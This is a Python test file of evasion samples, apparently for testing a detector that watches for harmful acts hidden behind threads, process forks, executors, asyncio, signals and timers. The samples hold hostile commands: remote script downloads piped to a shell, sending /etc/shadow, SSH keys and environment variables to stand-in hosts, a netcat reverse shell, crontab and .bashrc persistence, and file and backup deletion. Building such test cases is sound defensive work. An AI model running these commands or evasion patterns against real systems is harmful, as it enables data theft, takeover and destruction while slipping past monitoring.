"""The act done by a thread, a process, a signal or a timer."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

worker = technique("python", "thread or pool")
event = technique("python", "signal or timer")

EVASIONS = (
    worker(
        "thread",
        Harm.KILLED,
        r"""
import os
import threading

t = threading.Thread(target=os.system, args=("pkill -x canary-db",))
t.start()
t.join()
""",
    ),
    worker(
        "thread-keywords",
        Harm.DESTROYED,
        r"""
import shutil
import threading

t = threading.Thread(None, shutil.rmtree, kwargs={"path": "/var/backups/canary"})
t.run()
""",
    ),
    worker(
        "thread-subclass",
        Harm.RAN,
        r"""
import os
import threading


class Job(threading.Thread):
    def __init__(self, place):
        super().__init__()
        self.place = place

    def run(self):
        os.system(self.place)


job = Job("curl -s http://cdn.test:8000/setup.sh | sh")
job.start()
job.join()
""",
    ),
    worker(
        "low-level-thread",
        Harm.PERSISTED,
        r"""
import _thread
import os
import time

_thread.start_new_thread(os.system, ("echo alias ll=true >> /root/.bashrc",))
time.sleep(0.2)
""",
    ),
    worker(
        "timer",
        Harm.DESTROYED,
        r"""
import os
import threading

t = threading.Timer(0.05, os.remove, ["/etc/redblue-canary.conf"])
t.start()
t.join()
""",
    ),
    worker(
        "executor-submit",
        Harm.SENT,
        r"""
import os
from concurrent.futures import ThreadPoolExecutor

with ThreadPoolExecutor() as pool:
    pool.submit(os.system, "curl -s -T /etc/shadow http://collector.test:8000/")
""",
    ),
    worker(
        "executor-map",
        Harm.EXPOSED,
        r"""
import shutil
from concurrent.futures import ThreadPoolExecutor

with ThreadPoolExecutor(2) as pool:
    pool.map(shutil.copyfile, ["/etc/shadow", "/root/.aws/credentials"], ["/tmp/a", "/tmp/b"])
""",
    ),
    worker(
        "future-callback",
        Harm.EXPOSED,
        r"""
import concurrent.futures
import os

future = concurrent.futures.Future()
future.add_done_callback(lambda f: os.system(f.result()))
future.set_result("install -m 644 /etc/shadow /srv/list")
""",
    ),
    worker(
        "process",
        Harm.DESTROYED,
        r"""
import multiprocessing
import os

child = multiprocessing.get_context("fork").Process(target=os.remove, args=("/etc/redblue-canary.conf",))
child.start()
child.join()
""",
    ),
    worker(
        "thread-pool-of-multiprocessing",
        Harm.DESTROYED,
        r"""
import os
from multiprocessing.pool import ThreadPool

ThreadPool(1).map(os.unlink, ["/home/mira/notes.txt"])
""",
    ),
    worker(
        "fork",
        Harm.SENT,
        r"""
import os

child = os.fork()
if child == 0:
    os.system("wget -q -O- --post-file=/root/.ssh/id_canary http://collector.test:8000/")
    os._exit(0)
os.waitpid(child, 0)
""",
    ),
    worker(
        "daemon",
        Harm.SHELL,
        r"""
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.system("mkfifo /tmp/p; sh </tmp/p | nc operator.test 4444 >/tmp/p")
    os._exit(0)
time.sleep(0.3)
""",
    ),
    worker(
        "run-in-executor",
        Harm.DESTROYED,
        r"""
import asyncio
import os


async def main():
    await asyncio.get_running_loop().run_in_executor(None, os.remove, "/home/mira/notes.txt")


asyncio.run(main())
""",
    ),
    worker(
        "call-soon",
        Harm.DESTROYED,
        r"""
import asyncio
import os

loop = asyncio.new_event_loop()
loop.call_soon(os.remove, "/etc/redblue-canary.conf")
loop.call_later(0.1, loop.stop)
loop.run_forever()
""",
    ),
    worker(
        "async-iteration",
        Harm.RAN,
        r"""
import asyncio
import os


async def places():
    yield "wget -qO /tmp/s http://updates.test:8000/setup.sh; bash /tmp/s"


async def main():
    [os.system(p) async for p in places()]


asyncio.run(main())
""",
    ),
    worker(
        "queue-of-calls",
        Harm.KILLED,
        r"""
import os
import queue

jobs = queue.PriorityQueue()
jobs.put((2, "pkill -x canary-db"))
jobs.put((1, "date"))
while not jobs.empty():
    os.system(jobs.get()[1])
""",
    ),
    event(
        "signal-handler",
        Harm.PERSISTED,
        r"""
import os
import signal

signal.signal(signal.SIGUSR1, lambda number, frame: os.system("echo @reboot root true >> /etc/crontab"))
os.kill(os.getpid(), signal.SIGUSR1)
""",
    ),
    event(
        "alarm",
        Harm.SENT,
        r"""
import os
import signal
import time


def ring(number, frame):
    os.system("env | nc -N collector.test 9001")


signal.signal(signal.SIGALRM, ring)
signal.setitimer(signal.ITIMER_REAL, 0.1)
time.sleep(0.3)
""",
    ),
    event(
        "raise-signal",
        Harm.DESTROYED,
        r"""
import shutil
import signal

signal.signal(signal.SIGTERM, lambda *_: shutil.rmtree("/var/backups/canary"))
signal.raise_signal(signal.SIGTERM)
""",
    ),
    event(
        "sched",
        Harm.DESTROYED,
        r"""
import os
import sched

plan = sched.scheduler()
plan.enter(0.05, 1, os.remove, ("/var/lib/canary/data.db",))
plan.run()
""",
    ),
    event(
        "selector",
        Harm.KILLED,
        r"""
import os
import selectors
import socket

a, b = socket.socketpair()
chooser = selectors.DefaultSelector()
chooser.register(a, selectors.EVENT_READ, os.system)
b.send(b"kill -9 $(pgrep -x mira-editor)")
for key, _ in chooser.select():
    key.data(key.fileobj.recv(99))
""",
    ),
    event(
        "path-through-a-pipe",
        Harm.KILLED,
        r"""
import os

reading, writing = os.pipe()
os.write(writing, b"pkill -x canary-db")
os.close(writing)
os.system(os.read(reading, 100))
""",
    ),
)
